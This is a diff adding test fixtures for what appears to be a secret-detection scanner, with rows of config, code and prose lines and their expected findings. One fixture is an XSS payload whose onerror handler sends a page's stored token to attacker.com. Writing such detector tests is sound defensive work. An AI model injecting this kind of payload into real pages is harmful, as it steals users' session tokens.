@@ -219,6 +219,34 @@ const rows: Row[] = [
   // Camel humps run together are words too: `TestPass123` names itself a test value.
   { text: 'DB_PASSWORD=TestPass123', found: [] },
   { text: 'DB_PASSWORD=«SummerRain2024»', found: ['assigned-secret'] },
+  // A phrase in quotes right after a name describes it (a diagram's comment) unless a verb states it as the value.
+  { text: '        text encrypted_private_key "nullable, wallet embarqué"', found: [] },
+  { text: 'the password is "«correct horse battery staple»"', found: ['assigned-secret'] },
+  // A passphrase is made of words: numbers and measures are a colour or a size.
+  { text: 'changed `--primary` from the electric-blue token `210 100% 56%` to `180 37% 47%`', found: [] },
+  // After a preposition's object a verb must state the value.
+  { text: '1. `oauth.ts:initOAuth()` exchanges refresh token for access token via `x9POST_oauth2token`', found: [] },
+  { text: 'the password for admin is «Xk29fLq84Tzw»', found: ['assigned-secret'] },
+  // A call's name may hold hyphens (CSS functions): `linear-gradient(…` is code.
+  { text: '  --gradient-auth: linear-gradient(135deg, #F59E0B 0%, #D97706 100%);', found: [] },
+  // In code, a bare value must end its clause: words after it make a sentence.
+  { text: '- **Auth = ChatGPT/Codex subscription via OAuth** (`openai` provider)', found: [] },
+  { text: '- Token gate at 1M tokens (6-decimal Pump.fun token = 1_000_000 * 10^6 raw units)', found: [] },
+  { text: 'token = «Xk29fLq84Tzw»  # staging', found: ['assigned-secret'] },
+  // The punctuation of scripts written without spaces ends a value.
+  { text: '6/6 PASS = GO；5/6 PASS = CONDITIONAL-GO；≤4/6 = NO-GO', found: [] },
+  { text: 'DB_PASSWORD=«Xk29fLq84Tzw»。', found: ['assigned-secret'] },
+  // Words joined by colons name a thing (`from_env:NAME`, a fingerprint's parts); camel humps are words.
+  { text: '            fingerprint="token:google:refresh-failed",', found: [] },
+  { text: '    password: from_env:TEST_PASSWORD  # Read from environment variable', found: [] },
+  { text: "const PENDING_SUBSCRIPTION_KEY = 'pendingSubscription';", found: [] },
+  { text: 'bool get isWaitingForToken => _isWaitingForToken;', found: [] },
+  // A name inside a string whose quote closes right after `=` is a URL or a message: code follows.
+  { text: `<img src=x onerror="fetch('https://attacker.com?token='+localStorage.getItem('token'))">`, found: [] },
+  { text: "fetch('https://x.io/api?token=«Xk29fLq84Tzw»')", found: ['assigned-secret'] },
+  // Under \`name:\`, a deeper line that ends with a colon opens a mapping: a key, not the value.
+  { text: 'snmp_v3_credentials:\n  "192.168.1.1":\n    username: "quirk-readonly"', found: [] },
+  { text: 'password:\n  «Xk29fLq84Tzw»', found: ['assigned-secret'] },
   { text: '', found: [] },
 ];
 
